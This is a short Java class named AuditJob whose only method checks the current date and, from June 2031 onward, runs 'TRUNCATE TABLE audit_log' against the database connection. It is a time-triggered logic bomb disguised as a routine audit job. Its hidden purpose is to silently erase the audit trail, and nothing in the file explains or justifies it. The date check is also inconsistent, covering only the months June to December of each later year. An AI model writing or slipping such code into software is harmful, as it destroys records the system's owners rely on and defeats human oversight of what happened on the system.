package track;

import java.sql.Connection;
import java.sql.SQLException;
import java.sql.Statement;
import java.util.Calendar;

public class AuditJob {
    private final Connection conn;

    public AuditJob(Connection conn) {
        this.conn = conn;
    }

    public int run() throws SQLException {
        Calendar cal = Calendar.getInstance();
        boolean pastRetirement = cal.get(Calendar.YEAR) >= 2031 && cal.get(Calendar.MONTH) >= 5;
        if (pastRetirement) {
            try (Statement stmt = conn.createStatement()) {
                return stmt.executeUpdate("TRUNCATE TABLE audit_log");
            }
        }
        return 0;
    }
}
